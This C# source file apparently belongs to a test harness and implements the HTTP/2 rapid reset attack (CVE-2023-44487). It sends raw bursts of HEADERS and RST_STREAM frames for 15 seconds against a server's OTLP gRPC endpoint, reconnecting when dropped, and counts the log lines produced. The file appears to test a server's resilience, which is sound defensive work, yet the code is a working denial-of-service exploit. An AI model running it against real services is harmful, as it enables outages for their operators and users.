using System.Buffers.Binary;
using System.Diagnostics;
using System.Globalization;
using System.Net.Sockets;
using System.Text;

namespace OrleansTempo.Bench.Attack;

/// <summary>HTTP/2 rapid reset (CVE-2023-44487): starts and immediately cancels calls for 15 seconds, on a new connection whenever one is closed.</summary>
internal sealed class RapidReset() : AttackInput("rapid-reset")
{
    private const int StreamsAtOnce = 500;
    private const int LongestStreamId = int.MaxValue - (4 * StreamsAtOnce);

    private static readonly TimeSpan s_duration = TimeSpan.FromSeconds(15);

    // HPACK literals without indexing; a header block always fits into one frame.
    private static readonly byte[] s_headers =
    [
        .. Header(":method", "POST"), .. Header(":scheme", "http"), .. Header(":path", "/opentelemetry.proto.collector.trace.v1.TraceService/Export"),
        .. Header(":authority", "localhost"), .. Header("content-type", "application/grpc"), .. Header("x-scope-orgid", "attacker"),
    ];

    public override async Task<string> SendAsync(AttackTarget target, CancellationToken cancellation)
    {
        var linesBefore = Lines(target);
        var endpoint = target.Server.Otlp(grpc: true);
        var started = Stopwatch.GetTimestamp();
        long streams = 0;
        var connections = 0;
        while (Stopwatch.GetElapsedTime(started) < s_duration)
        {
            connections++;
            using var client = new TcpClient { NoDelay = true };
            await client.ConnectAsync(endpoint.Host, endpoint.Port, cancellation);
            var stream = client.GetStream();
            var drained = DrainAsync(stream, cancellation);
            try
            {
                await stream.WriteAsync(new byte[][] { [.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8], Frame(4, 0, 0, []) }.SelectMany(static b => b).ToArray(), cancellation);
                for (var id = 1; id < LongestStreamId && !drained.IsCompleted && Stopwatch.GetElapsedTime(started) < s_duration; id += 2 * StreamsAtOnce)
                {
                    await stream.WriteAsync(Burst(id), cancellation);
                    streams += StreamsAtOnce;
                }
            }
            catch (IOException)
            {
                // The server closed this connection.
            }
        }

        return string.Create(CultureInfo.InvariantCulture, $"{streams:N0} streams on {connections:N0} connections; {Lines(target) - linesBefore} lines in the log");
    }

    private static int Lines(AttackTarget target) => target.Server.Output.Count(static c => c == '\n');

    private static byte[] Burst(int first)
    {
        var burst = new MemoryStream();
        for (var i = 0; i < StreamsAtOnce; i++)
        {
            burst.Write(Frame(1, 0x4, first + (2 * i), s_headers));
            burst.Write(Frame(3, 0, first + (2 * i), [0, 0, 0, 8]));
        }

        return burst.ToArray();
    }

    private static byte[] Frame(byte type, byte flags, int stream, byte[] payload)
    {
        var frame = new byte[9 + payload.Length];
        (frame[0], frame[1], frame[2]) = ((byte)(payload.Length >> 16), (byte)(payload.Length >> 8), (byte)payload.Length);
        (frame[3], frame[4]) = (type, flags);
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame, 9);
        return frame;
    }

    private static byte[] Header(string name, string value) =>
        [0, (byte)name.Length, .. Encoding.ASCII.GetBytes(name), (byte)value.Length, .. Encoding.ASCII.GetBytes(value)];

    // Completes when the server closes the connection.
    private static async Task DrainAsync(NetworkStream stream, CancellationToken cancellation)
    {
        var buffer = new byte[16 * 1024];
        try
        {
            while (await stream.ReadAsync(buffer, cancellation) > 0)
            {
            }
        }
        catch (Exception e) when (e is IOException or ObjectDisposedException or OperationCanceledException)
        {
        }
    }
}
